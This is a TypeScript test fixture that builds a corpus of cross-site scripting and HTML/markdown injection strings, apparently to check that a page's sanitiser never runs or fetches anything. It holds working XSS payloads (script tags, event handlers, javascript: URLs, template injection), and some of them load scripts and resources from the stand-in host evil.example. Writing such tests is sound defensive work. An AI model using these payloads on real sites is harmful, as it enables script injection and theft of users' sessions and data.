/** What people with bad intentions type into fields: 150 texts, none of which may ever run or fetch anything. */

/** Calls the page's sentinel: if any of these runs, the test sees it. */
const RUN = "owned()";
const FOREIGN = "//evil.example";

const attempts = [
  `<script>${RUN}</script>`,
  `<script src=${FOREIGN}/a.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${FOREIGN}/a.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${FOREIGN}/a.swf">`,
  `<link rel=stylesheet href=${FOREIGN}/a.css>`,
  `<style>@import "${FOREIGN}/a.css";</style>`,
  `<base href=${FOREIGN}/>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<form action=${FOREIGN}><input autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src=${FOREIGN}/a.mp4 onerror=${RUN} autoplay></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<div style="background:url(${FOREIGN}/b.png)">x</div>`,
  `[x](javascript:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `![x](https:${FOREIGN}/c.png)`,
  `<javascript:${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
];

/** The places of a page that a text may try to break out of. */
const escapes = ["", '">', "'>", "</title></textarea>", "--></script>"];

export const corpus = escapes.flatMap((escape) => attempts.map((attempt) => escape + attempt));

/** The texts joined into as few as fit a field of that length, each of them whole. */
export function packed(longest: number, joint = " "): string[] {
  const packs: string[] = [];
  for (const text of corpus) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + joint.length + text.length <= longest) packs[packs.length - 1] = last + joint + text;
    else packs.push(text);
  }
  return packs;
}
